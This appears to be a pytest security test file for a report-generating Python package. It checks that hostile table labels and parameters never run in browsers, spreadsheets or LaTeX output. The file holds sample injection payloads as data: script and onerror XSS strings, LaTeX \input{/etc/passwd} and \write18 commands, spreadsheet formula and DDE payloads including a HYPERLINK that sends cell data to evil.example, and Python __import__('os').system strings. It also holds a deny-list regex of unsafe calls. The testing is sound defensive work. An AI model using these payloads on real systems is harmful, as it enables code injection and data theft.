"""A table made to attack, from the command line to the page in a browser: labels stay text, nothing runs or leaves."""

import csv
import json
import re
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest

import copa_nb
from copa_nb.datasets.registry import public_files
from copa_nb.tables.candidates import candidate_mask

LABELS = [
    "<script>window.hacked = 1; alert(1)</script>",
    "<img src=x onerror=\"alert('img')\">",
    r"$\LaTeX\input{/etc/passwd}$",
    r"\write18{touch pwned}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "line\nbreak",
    "quotes ' \" ''' \"\"\"",
    "\u202egnp.exe",
    "</pre></style></svg><svg onload=alert(2)>",
    "{{ 7 * 7 }}{% raw %}",
    "[click](javascript:alert(3))",
    "__import__('os').system('touch pwned')",
]
COLUMNS = ["acc <b onmouseover=alert(4)>&", "=1+1 $x_{$ cost"]
ATTACKS = [
    "__import__('os').system('touch pwned')",
    "@pd.io.common.os.system('touch pwned')",
    "`x`.__class__",
    "x.__class__.__mro__",
    "(lambda: 1)()",
    "[y for y in (1,)]",
    "x if True else x",
    "x[0] > 1",
    "(y := 1) > 0",
    "f'{x}' > 'a'",
    "x > 0; import os",
    "x > 0\nimport os",
]


@pytest.fixture(scope="module")
def reports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("malicious")
    n = len(LABELS)
    table = pd.DataFrame({"name": LABELS, COLUMNS[0]: range(n), COLUMNS[1]: [(7 * i) % n for i in range(n)]})
    table.to_csv(folder / "own.csv", index=False)
    command = [sys.executable, "-m", "copa_nb.cli", "select", "own.csv", "--max", COLUMNS[0], "--min", COLUMNS[1]]
    command += ["--weight", f"{COLUMNS[0]}=0.4", "--out", "out"]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, timeout=240, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    return folder


def _files(folder, ending):
    found = sorted((folder / "out").rglob(f"*{ending}"))
    assert found, f"no {ending} was written"
    return found


# Pictures and frames have been loaded or refused, and what they would start has had its turn.
_ALL_LOADED = """async () => {
  const waiting = [...document.images].filter((image) => !image.complete);
  await Promise.all(waiting.map((image) => new Promise((done) => { image.onload = image.onerror = done; })));
  await document.fonts.ready;
  await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
}"""


@pytest.mark.slow
def test_nothing_runs_and_nothing_leaves_in_a_browser(reports, browser):
    pages = [*_files(reports, "report.html"), reports / "out" / "index.html"]
    for file in pages:
        page = browser.new_page()
        said, asked, opened = [], [], []
        page.on("console", lambda message, said=said: said.append(message.text))
        page.on("dialog", lambda dialog, opened=opened: (opened.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request, asked=asked: asked.append(request.url))
        page.goto(file.as_uri())
        page.evaluate(_ALL_LOADED)
        handlers = page.evaluate(
            "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
            ".filter(a => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value)).length"
        )
        assert page.evaluate("window.hacked") is None
        assert (said, opened, handlers) == ([], [], 0)
        local = (file.as_uri(), "data:", (reports / "out").as_uri())
        assert [url for url in asked if not url.startswith(local)] == []
        if file.name == "report.html":
            text = re.sub(r"\s+", " ", page.evaluate("document.body.textContent"))
            for label in [*LABELS, *COLUMNS]:
                assert re.sub(r"\s+", " ", label) in text, label
            assert page.evaluate("document.querySelectorAll('script:not([type=\"application/json\"])').length") == 1
        page.context.close()
    assert not list(reports.rglob("pwned"))


@pytest.mark.slow
def test_csv_cells_are_no_formulas(reports):
    for file in _files(reports, ".csv"):
        for row in csv.reader(file.read_text(encoding="utf-8").splitlines(keepends=True)):
            for cell in row:
                numeric = re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?|-inf", cell)
                assert numeric or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (file.name, cell)


@pytest.mark.slow
def test_latex_holds_no_foreign_command(reports):
    for file in _files(reports, ".tex"):
        source = file.read_text(encoding="utf-8")
        for command in (r"\input", r"\write", r"\LaTeX", r"\include", r"\def"):
            assert command not in source, file.name
        commands = set(re.findall(r"\\([A-Za-z]+)", source))
        known = "begin end centering caption label toprule midrule bottomrule usepackage textbackslash textless "
        known += "textgreater textasciitilde textasciicircum uparrow downarrow alpha ldots infty hat times leq geq "
        known += "shortstack"
        assert commands <= set(known.split()), commands - set(known.split())
        assert source.count("{") - source.count(r"\{") == source.count("}") - source.count(r"\}")


@pytest.mark.slow
def test_svg_holds_text_only(reports):
    for file in _files(reports, ".svg"):
        for element in ElementTree.parse(file).iter():
            tag = element.tag.split("}")[-1].lower()
            assert tag not in ("script", "foreignobject", "a"), file.name
            links = [value for name, value in element.attrib.items() if name.split("}")[-1] == "href"]
            assert all(link.startswith(("data:image/png", "#")) for link in links), file.name
            assert not [name for name in element.attrib if name.lower().startswith("on")]


@pytest.mark.slow
def test_parameters_inject_no_code(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    column = 'c"]\n__import__("pathlib").Path("pwned").touch()\n["'
    frame = pd.DataFrame({"name": list("abcd"), "a": [1, 2, 3, 4], "b": [4, 1, 3, 2]})
    frame.to_csv(tmp_path / "own.csv", index=False)
    copa_nb.report("yours/select", out=tmp_path / "out", table="own.csv", objectives={"a": "max", "b": "min"})
    for given in ({"p": f'inf"\n{column}'}, {"objectives": {column: "max"}}, {"normalize": '"; 1/0 #'}):
        options = {"table": "own.csv", "objectives": {"a": "max", "b": "min"}} | given
        try:
            copa_nb.report("yours/select", out=tmp_path / "bad", **options)
        except (ValueError, TypeError, RuntimeError, OSError):
            continue  # refused, or the report failed; what counts is that nothing of it was run
    assert not list(tmp_path.rglob("pwned"))
    executed = next((tmp_path / "out").rglob("report.ipynb"))
    assert json.loads(executed.read_text(encoding="utf-8"))["nbformat"] == 4


@pytest.mark.parametrize("expression", ATTACKS)
def test_constraints_reach_no_python(expression, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ValueError, match="`where`"):
        candidate_mask(pd.DataFrame({"x": [1.0, 2.0]}), expression)
    assert not list(tmp_path.iterdir())


def test_downloads_are_encrypted_and_checked():
    for entry in public_files().values():
        assert entry.url.startswith("https://"), entry.name
        assert re.fullmatch(r"[0-9a-f]{64}", entry.sha256), entry.name


def test_the_package_reads_no_pickles_and_evaluates_no_text():
    source = Path(copa_nb.__file__).parent
    forbidden = re.compile(
        r"\b(pickle|marshal|shelve|dill)\.(load|Unpickler|open)|(?<![.\w])(eval|exec)\(|yaml\.(load|unsafe_load)\(|shell=True|os\.system|read_pickle|allow_pickle=True"
    )
    # The explorer runs the line of code that it itself wrote and shows; its labels are literals made by repr().
    justified = {"widgets/choice.py"}
    found = {
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if forbidden.search(path.read_text(encoding="utf-8"))
    }
    assert found <= justified
